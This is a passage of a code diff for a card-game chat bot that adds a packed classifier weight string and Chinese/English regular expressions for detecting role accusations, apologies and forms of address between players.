cp@jMB{)Iq,D~w`4C?D2,JZrEPxu'-`aP<BXqN&h1-)+|6}k0oBa5wQ7,y4'$h|[@PVoKSVK6IZVgy+Aslvhn}w&`D9dEE/6~]EZma_G]B&6wQX?UYY#V#`'9pH|>{<M4pPno^NfN.h{M+UMXsS$LMJhstESb7%@KzFH|ifvFV++:hgw3%o96z@&*7C+^X)(}I-Q~Ly6(t7.S?tWY&TY_ii4j]zj3-.r9px~8O@Pj5]i%OM'6g|Y7:b>1Q/0tGL*)LeM6}kq/~$W6oGHB>J~LWhBk^~sh>DVB=)h|Y#s~dFd%BM4+e5I&d0AWS3|)+>y^F2/4nLrLdL5Mc+pveUFNP7K]#4qYjqJs8^j,*dq6s1>pAU_y(08jO~<7G>y=L.PD=:X(3g`R26W_/I^_Ks}w+4s0JwCo._/jj*AqXVi-*3<@Q$3B|YC]NM-@7@4oSfQyQSxVBNVgD3+%,v7u}765yp;B6A`s{y<dx~XWv'G:RZ8/=:z<(`gDwv<'{>}$tbx/Xn-v{^hh#SP6y4aPw=ENRTVzslis^z7JqRDwXsQs7;'[u-n{]:bpO1N|D*&MI[n1`VE0t`]n,,Z/X>ykl5aDm_ql}cTJl?5+}8M+$h]8%`uO/t%'5r`wJ21pk-kC<Wn{Pc|yY,)mG%i*OzW0*6FG#-dHW;G>bKF(KUTG=gkB0Ag)7kpchi>$>A^V;,Jm#n3SD7&-IFWKX:Z]+C;d+903_/ol%[(KGFyks^X4;6#OJ#kV9rAnpk&RMhYu~DJ^K9Os=+MV@*^%8lN8<r^tbsf[6l*,`33NR%FTwV3{vf=Nt;U7RrB^ja6DmB-A@8m]*f`k(_c]JhZ1v@k)qpc#tF`/;&c4hJE&wHq(*<*b9{ZMeVDkLf,u$i),WCFIDZj/Cj_'0E0oLem7~`.GIFg&}9bHJ:jq~Kw,,7;b<6uyjJbLGUg{[#6OlIl3zP%_VuXY7Fg3;fM0zhuRX6d8Cf4L37sBo?QEh:2si6GJ^yL05yh$Rnl_`$~4xPt[^#*{(b{JqH'HcE-@{|F{^GS[OVRAgm}cwTV0i(s&2C{fv4n]_6LqGpzNGU)=KOQ]6l^]UgN%>SH4p2q+8p})NU'gKK92WBp0yH2q`hFmm|=O6D$x*{H#$+>`+qNr_ocSZ@BOePRGzE[GcopbdJ6hHd)Ob<T9.qv2g?g,?sb~tNpioI=S6E:d/Nq2yb2dBzQ:e+7k+)l9_a/zn|:jCi#eX~q4z)b2,twW0>g8gvIm[P|Sg<Yg)ZzJ`zYf37m2$WfDBH@i[U-eK5*w?]1J6nY#n&?Yim,.(k&(|jgPb_E[.U(u5bT3.A8%8)Bvau,#&sdXRbC^pG/I~<T$a~WQ.$>$q/?e{96reV='=HQ()j0[A:_2RU{lU=e0eKWAD#afE]qv>?`ST?PU_XX3k77):EaBawx<k2@3m_FpB}kdW1mw$s*~b`Jlb_t{-DQ]946/mK#glYw|[PVjW$i`%cD2GzxnVoysN{HB]r+K/?h<o-:JV2]VGp(9-}H[`/}#7[UA([B|`;T^QM$[0%?(fvM^|m#e@|D?<Nc(b7F2dc6^J+6z{zjjdD9UwG]GV4}hJ*9d^f:}kj'}H7$O4dV0gM^AFm-;}p%hThRc8GO7|*%`MI`+-*KVPo>{sn0Dh|OB#K1&E9ds;mHi48X|PsF5cX>j:'~$~y._)eu@43*+3SH=*l0yL'50lipEb=+jcf_gAT-sS]7lqCZ]4LhSqVyE@(/-A.F,W0VSEXx*6JRxp&R4p{QUX<L6(Ud#nSQNG7&)]*Lf8urIOp;}Jhb329nI]r?GrVtM2QLcu|Mqm@KaiwfS;Px7VK{XLJX($lHrQ6;K{8g48lsvE=Ao6WHzT-#zL4D~Ko(nZOkC)Ox0nKC*P'2rUz`Od$bE/X8Yoj?|S/emFSr,$4-S?2ff:te?D}CJ=K2TSO+rD`-|9Ak>J9y&fpg;5~JI=6DgF#*@f,.T}Zf&}gq@mKeslz4N[A$Ox.z[Z~#QniqNmjP=bdb-nc=C}g4Hy&4$zV${UW_gN-W2:`t~h_'KW,,Itm*mrJF=}]z|U3o`K0'XgW(UZ&(dY'O;Y*rcz;'PBHaW((4G86Z0bv(9nmA-h-N#J.k,DMe8}%+>aUDq/n/.T+*cS$c1+''Ey|9nb0]%Z`wNXd):(SVP0ZrhzLGofKsvXmPG*r~I8^mapUfN+3I}F1BY_s+,m;#uN~0w+]pZGL,$8YvwIj?P8/nb0`?'K`#Gx^/tNuY+REdQ[yB6>3eO0ecp`.Jt2)_,1.`52C3Z`.uFWOP;YE9UW/$@KXd`)J#ZlL1$R~<#7>cF):0l8?1mv@PF8MWvNDdt/|<C.YIcfWh^oD=D=c./qI$4kO.2`mu-xh4x$t=q*A1hXHB#<P*[NxU<GiMpw{fflmB7&,eNMB~Q-1RDC'Ejt>JudZJXjj6~i`Es=>6hcrlGvZ.OS3?HNmY.SB[LM)+a4N`1KZUjM@klB8-$},gX6US.WSKXj6h:eYUSS}D:mpi/tC?(fHT0Ilz>q8E5)=E2{mwjzg1C'LA}f[7s0Yf~{2=Pivqyt,?M5xm3YBE3Ot|fhoh&65]y%6z,o'`75HzSw[^5eSnAd~R&vuQcXF[N1=}moz,@z?yi9Mw.5h*JT&ylg;FoB=7`l2^XeOr~ZOO5GNg~C@X}m#GSSMMXFP/0PFlG6T@me<c/oz/0gd^Hb55cx@v8:6H>?nros[J^?s+t`r(.o:`x^SR(lxQ_BA._T@^=aYn'V]}%GE}09KiZfl'_(ymO[tGUFoZK/D#llv}lSDJFj$'l1j4;exePS5'_7*KsGg'yuFU~}ecz.Q{-cQ}92jA.fN_TMT;(0-O-&nx4TUtU)-,SK&aI#0-pTxT/&rQ|z#5A3VRLpM~`dI*i~}Jc1GyUm%eHcN9Sm28K|=*Yf1a}?]NbzpV4N_ouD+biGy/4%-N4ZNyr^Q}eR='%KuJP<j2rbco><qAIB%:y^kNI25a+x|^i*tZgA<1tG$C`mcQQ0O{zUG-]s=RWF+H&Uy1Z-(}(;),fX$~^tYQ0l$ZXpdQJ/BBnck;2mHA7b;X4inf5]Jl}8pvu0xvj[Ts}FmG;6tSR?3_W:J&0-Y3`yUql1I^P=tbA5:xS9aAK@HU'onbpbSC@zc@NM>EVV~[}[iF-7(B:m%$QDuBbd',^/{O7iPRepw+kml+YkJC~z&lc(RW5R)L&k#Yg>?I@qjPjShp%q@6#l3HrC2#X{2HdMp{Fxqn2&:Cc52U+=*~HkcQvW>EVt;yCtyb0OntgEC>F6.(N)RD:IcVWERoUGv0::ve~DN'D;E'$4cC95rInwm*Q|H=X0BV@e)uP6X(ti?;#rY+xi)H;<jb:x/wT<ouvp<K&|8&HW$[i**(G5X:+oO)T'm<3,EucY:^&v@$g|0noAHbnHZs8}7*LdBucDg@6&y`nTrEM9o3:HA&jzt/;X}o%Zv]((/.;%6iM{2^AM.{&0gmQ0M;g.&)<J}d}w7(@coOt6QKuRn?@uN@B=F:^emdlA'3N5x,mu{+b%oKyY$T_$'&|v><N&Lp)vEAA9m0M>[7E#rV~CV/z6IuH&-&hb7w|*4^(I(XkA1bm<v?n_fhvY0jB8]%<$uNBH4uv//ZESX,SPugqy;fKPwv1*l%aRgooA@-.:*@&p@Ab2s4Map=o'?]dhJ@4ssy9NTVS1UG)Ln/KByk<156sU}Se]&zxMM[s+`82jv+3m#n#PYwU'+.H-rYZ|>Ybn1VM7k;nas8b(e|12%[9z+sCoqu:ph-KA-jDE1YB~[@41Mpu-A%[]sXOtD3(]flN|k#`D5'h6y;MuFAslou<blmI^|nKHA;U}+z41f]C5>z.jD6;}9)P]'3J7i2=,>BAjyvZ@?kj&cHisLxl7S1{/KF7f(.|=AN(-1zTI4|wbC/qu~0r{$AgRw}xU(vzCwZ`og-|@59:73%DrIO`i1<';Wt5C[Xr,=p1Hl9EDucU_dnYJ@TRHf#SxoKUx4nP('epV[I#VcSGdBL[hGvl/*kSgNq<)3^DazuTtS9a;p@kN8^X0UynT[b<O>&Rnr0I9s$(Q>p}ZV1%DqI;n^M]CfAVBR$GKs_kX$FB1c`dN1</<PY_mK4Y0`GkeX/WT2_Wq`}EEq_Z:8Frk5oLmX{w1KKeM}JKOJLp:Qqq|:>U366N'KEi6TkUZ^r2K^Le1fu%iT_}Ji/Wn+^NGkd7)/~'N,D`uTvvb@#q3][sS_D|de'TQWTBPW_,7V=7Dl$uSko;h7iLD7-XPz&?+'`U21fNpnl{;gj/$n$,_nLoR|Pa|(t^J{?cjT_8bz8F7;e~HaS|KKzI=DMnoqt]T[=HQGx,+{[54ySZ/f3H)JoASmG,lOU$a('j?I.aE{Vh*1qh>O')IG$T*GC?#b1lA/`B_v{:UN}MJmd)-fm'p)1lN<^O]W0dsf:),L6XT['ryq]sr_B$1r+'G{6tZ8f{JvPwWWqHBNLr?1x'$%#)(p;yDNnn52#'w):H5I9_=C-8F4xh@2X>~lBEA?cx->&>)cxBP]=:Cxg=J4JeZfh:5p%Xv71_$S/XzZq]:wUWS8'2A3Zro%a;*|Q[k=p3d=^aFEcec,tC?^0b0d4<i75TLJV7,0-?7-UuGZw)W$ReB>(FjjHkhnqP:Xq{:YUE)SM[Hsb'vVW(l83Kll)J?kW#@Cm~i.G`~k6}e`s%'vNbdcLG-DtBW7qDo55B7MoQ)G/q+,:P~z?uf6@n%:&El->v1f2u@Bvm[<u2ub;+(FRzs|(R4a-WGF|XRK6s-8J{n;|?Ci/_|N&@sAa9s0YRc)AJqAI$ul3Z8WNVxSraRC~(>^ba#OTO@0.%WJs9(Abdbq$xS6M/N/0m3jRFh$NbJ@;~YO(nW~&8PqCf170WHxZ*1Fw8zi`X:TbY|f`;$@<MnMI^~JhekNTVEhfX_ouIBCL0E1%D+>{ixbXK7@-Y&.:Mhg-|rQgU^UN4UlvXbay(M{P~subg@2bYP'XPE1;>$w*h-WEr`6.7.UaF9FU&{~SCZoGcc?$;jk%'$w0PC?6}-@,Ij+}ICy^I7^_i]4FejIl@VOKr<USFLr^%Ue7qXU{$r3x]++^V|['j{H6V=ljnS@csWt+Uqj%&jtB.TYu@8C9_,N~L@i,zNJT;zp<(<O[Rwn&dwDL6fsAiumu%arBM=f<TiDo$s'4b+@^7W-pPxsW;;xcA^q9>8-pegzi3TRr?Mk3Aht~f@M7$<P+9g%5/b?ZyMKI*p]@2U]G9C3.o*w_VQy#AJhDdqan%IkhOW(|'>ZBT`ie4[9USz-[L.%1U6D_PZG+<eHm,Y8HX+uUkUIwe]Y1|.F)N*{Nfs8%^Rqf(wE_d?<76HFgPqqgnP*|=ST-hbjke|x:hTd#*&3]MP4so.XnA>hk*dgv:8NHXkktv`X'#Eh85m)'rFDzSLYpXXGCn/Gq,ZBtse&Wg|b/BYp2c,/oZudlhe'U`o>V_8d96d99)|v8_el'K6zC]I1,Sc2W:GBy?pZb$o'Y/fB=NctiW-Vmnks%:ynhLT'wG,#Bcrsi4)*O-]<F:Nn`:W7}#<=?oe_>]9fU=`HYB.qyy1QQPSjwt'':eWd#C#OC@xEw)PfZiMwk?$w+(WqR0JI|tLtwKU&oVkiIfQ[VohK*dj`V~RBDknO~}L{Rt,DsSLO`-2^nDWJ1}./:7FVt4__]GcIT6)RNR:PLH=3~qRPJXS8qTZ]1-UEtYVV=QZL*jgTQ_pzMfE}5z]KH0f=h@WS#8J#G<Fa+8w#MHT(m$~Gh<-7|*YzmS+2sFCc0T:%?e*PY;?&vL<esmW>PmkvF&R<0&]J&~|$H8oCzm;F'z[*;~P_~1iub7QC_N82djW+}Y}2pD>fe`nFCwkW4aE`dhPWnJKrO{f%+=X.m4^Y:A:(XjgP[[w}xc`e`GucUHLC`$}mRa<r5=iZ4]n]IR0WJwRs^=>^A.CViXoclb1&G2O2mE&sB<8<s0+82U_<>F{]7$DC}q|7>=.6DYjH$j*Vp`l[a)>40zTvVx56NWqWv~7g=x'T)uHs}?pbbe|t%ut~%{En24=|M'&1IZ>SGd|0wOQtwiH{jQ3s5H3bOd+T8X4[{mtP.Y`J3,^OW%F7+@W%~VVnvQ45`Q8kws#xgUnP2Q%>4.idKUksU'a?>7v]/&^NNZqi)KT6jfZ<iihB:CDMkCFVYo}/>B[UXo&'TKca6.%S'tEHDE;?%[R]wVyLuR$sd_Eu-4/?P_C#p@km$G+^)6sGUB,vnKdL%Mz/yXT{<:?Ip<h@3_ciGb[Q+fGq1|y?>Ijy&j7mDVdU<g$Nep'2+7S@b6bv{sr-uYB3khcAgtpPIoBoq9odf*kVv`u).nR{P_6:2>qZzgjV6m`X#e6462V'7$;0#~a1AfY4ZL#>ZI+OVQdT2B_{qVT0thb]HreJL6+7)Ghk$d8zSa&ZjFuutJ$wr9>>1VmESIl|*=8,L`IDX1X%11S9F0'eQ8y7[:l{>rx7I*e1So4v3Z(9z0$Jw=T}IiTT8AuTIK#[zHKll)dG{PzY4wDab@qV@~_xJ%e@R~LTH)r0M~Fy$|)C3's4s73$_ybme0zFw;q%<(z5m<w(7X~=|P]H:oB(390SgHtALv-`DuHCH;x8FctOv4:_yq$va0Fsw<IXj7L.DRtjSYJ&4#Z?FKp|zu|}#Fx[3Q'h8[S&F|/uX1ppY6H/qPx3*(i~;Ad7*f+6crQi=w+vr_+|;&O#K)5AjJewgXF%uJuA&4Oq06=p4$:.8cLj:z:EvnFMJ._vx'9g<AiZ1PTL78<Qg,U0TEV4N(ZL2Ik&8~O95F}5ny`;anZcqI+]O$i5ea*x9*)}O$&VwXQYvWKcoE~).*fs?9?R9y(g{`}XXaN5xA1U?}]wID)wvS)E10}H(OFsVk4zW&d@-P&`lw'Hs::v$1+Xmd_cma>OGcOZw=d`Zpw_?-.B15xgVo[},iHl~fG9$-G[9D.N2bgT12Kl9#4]a`/FZ+INZDGhEa~'%wc0Jm4O.>(jWJ1GO?JV,hMl`+AXkP<k98W(ek(r4h%oPa:sw$sPbLl*AL1<D[wO,OSOlUM'CBLh]I-f_0z0gu0oF<8ds%$HNz|Z)gL[0Iabw@1yfc]q~'/?b_XhcqhNA]+}=X}GRGWj`?%O(M)?.@%n#*ifH(1{'kg-{deo>E5g`7Dwb&pBLg|dX&g^+D}`F</0D?+ayWc|f5A]ud?rEHZlVo'/Md`3~(/v3Bmw[vC8_<Rar)}gK~#f8cxAZZzcp'9N`K?#0;3H%sW2&UppnRN=#qID/:+s3x'ge~$8NX=.5+F$@B`n8GrG_i~5J[Wg4k]0:S$IHtZrU=n{)2e&w|.k3D%Yx_3CnhR{?>sZ'L,Wo]rjsEN2ts#26x9N<k.@)U@@JPH*#ykAg=15H};'dTcy{w3&p*O=>rW,Be)-w-44)9Qx1Q){{u+%<'`>:d~D1NvC:AzECR4}&nV[gc`0a@6egBM#<Eq@_&fa&*~`iu1-v2{lxGpq@wnZ,M.bw*#~xM&kTc&G_ef(>Ze,RbHZLd;Y=OFY4*EQ2[,N>}Vo76o_|3,uj)tW2<gH]-wzs~:UJrbI-$;7#'lPoACxdZ8r3I&A?:BhF.DI5+^E6=*GMvkmf)[W~*z2at6bq,<K(8e>?&r@q17xc$j5,#'10axRcijR56d|fB%QiWqPfj%7w$5&IJDclCoR'pi#7]J<|@/uITQN>n)1ll.Ki}Kj)8;0f,P,Xp(-8m6A%$KNV~M8u5YE`waAoUjY:0G7aOSM(FM$'FuHx>B}'bh^A#h?03cJcGfx`.)1%_e9szdVP6JG;;_Y2%L1V=ko+hMF'mBI)O<2K%b[sL>YD{kQn/t/%yiPay)|]9BTL/Vp'TnC@/]g2gBi|{}-NnSe5;Y,a`s3GDv_xyz9l|'-(bxnCLdo6OB9K1bwQvdApsPsT^$i;RyYO~@=WSHkGD}4<Trivs|XD0cIP`:Hd)%q0wvMkUw~p1_qvZ{<sAdWe0iU0>UX=V=<49'Qrdw];f_;8b?`|?A'T1.cz/r<iDsUe{;=IAnz2Kt~)QlDL5}<6q57uf|:6^>;Wz0kt_R1^*KLe`m'FEx$^bG|IQ5a;%bh-,#(_M&Dw*L$QI0jX4yd,wJPAzi^NZwhL`Ht1'(@J:Zc)J,P@?U<%i#).4|MM1P+]z,2hyx}k<M`:%ZjTdEFH?&hA(+P;n[wj0<4*r3~'O{bUIxx?4_*p(5.kC.vSLiBh#T4kL7.un~,Q0'm[NNp22hwL%vC?9Cnh{>CSpMddz*&PUT5M:2L(>3:*DnC0RD&4.$QQO{V{i=W?5-IqvKUKk-%k]6^mP{l>@[?uE(Qac2;X/6~X]Nw~tpLN(GyXus4.@g5IdH+d^-N;+EE/p3?Ep%z.`}JS<o:;`+:bQV/b(~>-V?qyNN}()v;90*oOP.M^_y~,#MS$vKK'(8%=mk:b)}q|(jCujoq7Ih4V(_ZlbHFtG;/uaCCfU5jrsx1R$2;Ce)pO-u'm1hB@Q~AQJU{?n4FndWjr#yy70o.9$.A>U#p0#_kf%CN1mz~S7qv09fN$G2jKgD{Q'>Q&veW@VXoa8VtjGTE~9e6>yZ9j@oc61nzt,m;xQx#jolo2rh6CY8h~h{f;5MN?7Wu0@&Iut41XVWZR)RrE6-]-U,-nDK,:OnyKz.P^{NFSKu@-qd3,F9yZ0-prCD[*L}-*PVgY)v/',TM[~f(K9>/bA+&ip=Xa+*>El^X>y==&75SMKsqklX%O,rKg3_Z=[_T4p)$J`S)rD8yEaHmqJwdbMa,>/9<LN5wA&tC,4y4TnPrjjG)%?eNnk$3uAx6MDV=wo[t@O)Ze||SnBj,Hr)A&)9pKDGoI,[4]W/q(_1-m4LdCiUK/o}G4,M1ttUwa(_,vo6/J5(jcU$GcZDYJ]x1^D~t?yH*Xu{f4Ps({Fy)N+krRnf-~S#zniP_W,h'+-2l$QNQ/Js9a-JUkGKSP9J,SkD5ZIW@-~Vf3%TC5Yine/>Buk9[8VL:tyOp]<=1b{|G<M#L^*M(|)W<{M=(;yDN~&{zj0owtpCK6X@a#kOk^};`5)uG6[LR/Qz[|_v7W7[,+^nF^-niivYyXGFX0(%-WJdqHfZ{w>|ALmhQ*.,U:N(%wQ'~)$}DNVvdoEzEOceYMYzc1$%iOLfP{B%J|o[zWmc-{k=BVuQxOv:4%pGvazTVibQ,*^6/6|J3&(k^'IU_#.69#T->:N);h&;0_e,I>dd.;s;_Bv*2}C8~1.>0uQR;je@Xnz#uq.}~c~b[>f+ksdkmP#V7EvX^0m3+fOHL5R?IG^nM0XmU2#q:lK:D<WiDeOS;5?dblCE6.bXa4&%*W'X/K5YiRXD.gQ4kw:c-}URl$.qp[y#vOHN0zlrmi^P^uC5m+AWnBjJJ1t%-6,nw?CCWx%@BhdH;w.u42O5sGaU:L=k:YvaHSeL'%KLvZ)S_,2od[znEIV+tcFLf0f1;},*/QT@'|aKqos1?qCZGaOY&UpQ;5@A2'jh'>zANZ0PwT/lj|~r%#fULg#JD1?&S?2jsp=X}hIPD=l:}n7?m<y^XMP.=0jx)#~.^yLjxE3M}&J**p7|aEaOl`_ugN>S`JJa|Lm*1->*=ePar}M,de1oaUyM#^d_DE49_mwa5<XNM.S`9=#1OK*ApzjhV?>mOzP9U-erh/>$cmB{/XS{SS1r:d>Suyg[L+xlP66`h4Ed88<@^_`}KqEse8j-&5y+?}t^f-uKj%&%%v&Acq]wXC)JqJL>A4XwUr+yV9%%l{'?JX*x0R0E>T]Y0x+t<f3b8/lTxYY-A0Dosc>)IB4WzTn7yWs/TV&FRK#vo2)7%WO>>hUC[4y/}nd5Y+Y<C:@N4l~laog&T@.Acl{q_rYn6`o8jO$:TPA7MPI@7T1d:x9)R8kd8/v0I<m:m1aIaJyKpi$j([Vy]3Lm<3f67tAA<r+}Z=J#X{,y2s']dU@(:iGljlA8GI-Yu9:l]jK:Y*xL%(l{6@Pu,wHWAT}e*MFmsQ3DUd4ZGC4+ZdZB$-oMzbAS%dRfqqGyk{uszRdW('0*No3h[qvYcvqCU.Z71@1]J)*O/zTrb5+|?x5Zh}/MK<=q_x(~#+&|30IUHk1%I8AB?qQeV{p(&>}$bjp>Egj,+rMY2?YH29/$U5EnhT#7{gc=[03[c%KMislFdseAZY_TRZoK{0+qQw8C&U4#/2.pZm4nr)4w:4hEr7~v2g>]vioDL0;k&j?IR3-qIhaR++;in;oeoyf`Kfb]rAN[G3A<QUJt&ZsU,J#c>{j{d,L.A+Y6`J-Y#WKBW'wZL>@}*U2KezeWCj5P[z^8<$`S/vgJ^f}Z]nXY4T{[1TbyutPw|N=H_u*vAnyb)s[Y.g?kTe/bMg^69&K)%S`s;A|$e<z^><cD$GyrCdk(F]atYvg.fROhPccNKU=:ASlYnG?wSN#@=giZ+@j:R6A}#WcN(7vsrfumOX8unu7NhprJOA`q0a&Zg-)<&Z(<v9d(>p'U'8sz0kP.33I8DQ=yN#hW1vz(2~.^e1`@]0:bYiIg9IAUOxR,r{c1N$C[p,%'+YNIh;:e{a%P6}8pL2^ro#E25p+X@LE%YRvu&ZmS,%zx2f~Q#rYlm(>(<;^(qduT]yDTe8L:-iGb2IUf|qP_CNVC)WmSPiz9+^HcgoWz7n@4E56l<ENu|V6iALj-##";
+
+// src/chatter/moves/likely.ts
+const SHARPNESS = 1.75;
+const chances3 = createSoftmax({ unit: UNIT5, bias: BIAS7, weights: WEIGHTS8 }, SHARPNESS);
+const actsUnpacking = chances3.unpacking;
+function likelyActs(wording) {
+	const by = chances3(wording);
+	return Object.fromEntries(ACTS.map((act, i) => [act, by[i] ?? 0]));
+}
+
+// src/chatter/moves/roles.ts
+const ROLE3 = `(?<role>(?:${ROLE_ZH2}))(?:(?<=[忠反内])${END_ZH}|(?<![忠反内]))`;
+var expressions;
+const build11 = () => [
+	new RegExp(`(?<who>(?:他|她|它)(?!们)|(?:这|那)(?:个?人|家伙|货|厮|小子))(?<between>${BETWEEN_ZH}{0,8})${ROLE3}`),
+	new RegExp(`(?<who>\\b(?:he|she|they|that guy|this guy))(?<between>${BETWEEN_EN})(?<role>${ROLE_EN2})\\b`),
+	new RegExp(
+		`^(?:我(?:觉得|看|猜|感觉|赌)|那|所以|所以说)?(?<who>)(?<between>(?:是不是|肯定|绝对|一定|必|铁|应该|多半|八成|大概|估计|可能|不|就|也|都|还|才)*(?:是|像|为)|(?:肯定|绝对|必|铁|妥妥|准|八成|多半))(?:个|一个)?${ROLE3}`
+	),
+	// "忠臣吧这是".
+	new RegExp(`^(?<who>)(?<between>)${ROLE3}(?:吧|啊|呀|呗)?,? ?(?:这|他|她)(?:就)?(?:是|不是)?(?:吧)?$`),
+	// "这不反贼谁反贼".
+	new RegExp(`(?<who>)(?<between>(?:这|他|她))不(?:是|就是)?${ROLE3}(?:还有|还能|,)?(?:谁|什么)`),
+	new RegExp(
+		`^(?:i (?:think|guess|bet|say) )?(?<who>)(?<between>(?:definitely|probably|clearly|surely|obviously|must be|not|is|maybe|looks like) ?(?:a |the |an )?)(?<role>${ROLE_EN2})$`
+	)
+];
+function roleSaid(text) {
+	expressions ??= build11();
+	for (const expression of expressions) {
+		const { who = "", between = "", role = "" } = expression.exec(text)?.groups ?? {};
+		const named = roleOfWord(role);
+		if (named === null || named === "zhu") continue;
+		return {
+			role: named,
+			denied: !/是不是/.test(between) && (DENIED_ZH.test(between) || DENIED_EN2.test(` ${between} `)),
+			who
+		};
+	}
+	return null;
+}
+
 // src/chatter/moves/warm-up.ts
 const TEXTS = ["他昨天用南蛮打了我,肯定是反", "he hit me with a duel last turn"];
 const HEARING = [
 	actsUnpacking,
 	wantsUnpacking,
+	kindsUnpacking,
 	making(function* () {
 		for (const expression of Object.values(words_exports)) {
 			if (!(expression instanceof RegExp)) continue;
@@ -29647,7 +29734,7 @@ const MOST_OPEN = 20;
 const ATTEMPT = 0.75;
 const URGENT = 0.8;
 const SHORT3 = 12;
-const KINDS7 = [
+const KINDS8 = [
 	[/^拒绝/, "refuse"],
 	[/推进过快|后退|控制或独占|受到攻击/, "boundary"],
 	[/敌意/, "calm"],
@@ -29656,7 +29743,7 @@ const KINDS7 = [
 	[/以前的事|共同经历/, "recall"],
 	[/敷衍/, "hold_back"]
 ];
-const taskKind = (description) => KINDS7.find(([words]) => words.test(description))?.[1] ?? "other";
+const taskKind = (description) => KINDS8.find(([words]) => words.test(description))?.[1] ?? "other";
 const MET_BY = {
 	clarify: new Set(["unclear", "confusion"]),
 	boundary: new Set(["boundary_soft", "boundary_firm", "boundary_leave", "refuse_control"]),
@@ -29789,7 +29876,7 @@ const MENTION2 = 1;
 const ADJACENT = 0.5;
 const TALKATIVE = 0.4;
 const HOSTILE3 = 0.3;
-const KEPT_FOR_ANSWERS = 2;
+const KEPT_FOR_ANSWERS = 1;
 const VOICE_TALK = {
 	courtly: 0.9,
 	laconic: 0.5,
@@ -29839,11 +29926,17 @@ function createFloor() {
 	};
 }
 
+// src/chatter/moves/amends.ts
+const TAKEN_BACK2 = /(?:我|话|那句|骂的)[^你,?]{0,4}收回(?!去|.{0,6}(?:[牌张猜]|判断|怀疑|看法))|收回(?:我|刚|那|之前|前面)[^,?]{0,8}(?:话|句|说|骂)|(?<![你他她号])(?:刚|之前|前面|上[轮把]|我)[^,?你他她号]{0,6}(?:[话嘴]|那句|[说骂]得)(?:[说是也太真得的]|有点|确实)*(?:[重贱欠臭狠]|过(?:了|分|头|火)|难听|不对|不好听)|(?:骂|喷|怼|损|嘲讽|挤兑)(?:了?(?:你|她|他|人|大家|各位))[^,?]{0,8}(?:不对|不好|不该|过分|[我的]错|没品|抱歉|对不)|不(?:该|应该)[^,?]{0,6}(?:骂|喷|怼|损|说你|说那)|是我[^,?]{0,5}(?:急眼|上头|气头上|嘴快)|[是的说]气话|口不择言|(?:话|那句)[^,?]{0,4}(?:当我没说|过[了火分])|\bi(?:'d like to| wanna| want to| gotta)? (?:take|took) (?:(?:that|it|this|those|everything|all)\b.{0,24}\bback\b|back (?:what|that|those|everything|all|calling|my words))|\b(?:calling|called) (?:you|u|ya|them|him|her|everyone)\b.{2,40}\b(?:sorry|sry|soz|my bad|apolog\w*|wrong|(?:dick|low|cheap|shitty|bad) (?:move|blow)|uncalled|out of line|too far|mean|rude|harsh)\b|\b(?:sorry|sry|soz|my bad|apolog\w*)\b.{0,20}\b(?:calling|called|i said|saying|yell\w*|snapp\w*|cuss\w*|swear\w*|insult\w*|language|rude|(?<!n'?t )mean|harsh|trash talk\w*|outburst|rant)\b|\b(?:what i (?:said|called (?:you|u))|i was)\b.{0,16}\b(?:out of line|uncalled for|an? (?:dick|jerk|asshole|ass)|too harsh|(?:salty|tilted|venting))\b|\bi should(?:n'?t| not) (?:have |of |'?ve )?(?:said|called|snapped|yelled|sworn|cussed|insulted)\b|\b(?:i (?:lost my (?:temper|cool)|went too far)|didn'?t mean (?:what i said|those|any of))\b|\bforget what i (?:said|called)\b|\b(?:uncalled for|out of line|too harsh)\b.{0,16}\b(?:me|my|i|sorry|apolog\w*)\b/;
+const DEMANDED = /[你他她][^,我]{0,8}(?:收回(?!了)|道歉)|[你他她号][^,我]{0,4}(?:骂|喷|怼|损)(?:我|人|他|她|大家)|[他她]骂你|(?:不会?|才不|凭(?:什么|啥)(?:要)?)收回|\b(?:you|u|ya) (?:\w+ )?take (?:that|it) back\b|\b(?:not|never|won'?t|don'?t) (?:gonna |going to )?(?:tak(?:e|ing)|sorry)\b|\b(?:sorry|sry) but\b|\b(?:say|should be) (?:you'?re )?sorry\b|\bwhy\b/;
+const isUnrepentant = (text) => DEMANDED.test(text);
+const takesBack = (text) => TAKEN_BACK2.test(text) && !isUnrepentant(text);
+
 // src/chatter/moves/place.ts
 const BEGINS = /(?:^|[,.!?;:…~]|[\u3400-\u9fff]\s)\s*$/;
 const YOU4 = /你(?!们)|您|妳|阁下|\b(?:you|u|your|youre|ur|ya)\b/;
 const DONE_TO = /[打杀砍拆顺救收给对跟和把被帮保护信是像叫让]了?$/;
-const OFFICE = /^(?:主公?|主帅|老大|老板|大王|陛下|皇上|圣上|(?:the |my |our )?lord|boss|the (?:king|emperor)|your majesty|my (?:liege|king))$/;
+const OFFICE = /^(?:主公?|主帅|老大|老板|大王|陛下|皇上|圣上|(?:the |my |our )?lord|boss|the (?:king|emperor|zhu)|zhugong|your majesty|my (?:liege|king))$/;
 
 // src/chatter/moves/called-upon.ts
 const AT_HEAD = /^(?:@|喂|嘿|嗨|哎|诶|欸|那个|请问|请|谢谢|多谢|对不起|抱歉|不好意思|你好|hey|hi|hello|yo|oi|thanks|thank you|ty|thx|sorry|my bad|please|卧槽|我靠|不是|哇|好家伙|所以|那么?|话说|其实|不过|但是|而且|gg|lol|wtf|omg|wow|damn|bruh|ugh|nah|wait|hang on|hold on|哈{2,}|(?:(?:ok|okay|fine|well|so|now|and|then|alright|all right|wait|relax|chill|come on|look|listen|dude|bro|man)[\s,]+)*(?:ok|okay|fine|well|so|now|and|then|alright|all right|wait|relax|chill|come on|look|listen|dude|bro|man))?[\s,:]*@?$/;
@@ -29855,7 +29948,7 @@ const PUT_TO = /^\s+(?:(?:why|y|what|how|when|where|who|which|if|unless|so|i)(?:
 const SORRY_NEXT = /^[\s,]+[^,.!?\s]{1,10}(?:对不起|对不住|抱歉|谢了|谢谢)/;
 const ONLY_CALLED = /^\s*(?:(?:救我|帮我)(?![^,.!?\s]{0,6}(?:[过命次]|了(?!他|她|它)))|救命|别打我|信我|自己人|我是|我真是)/;
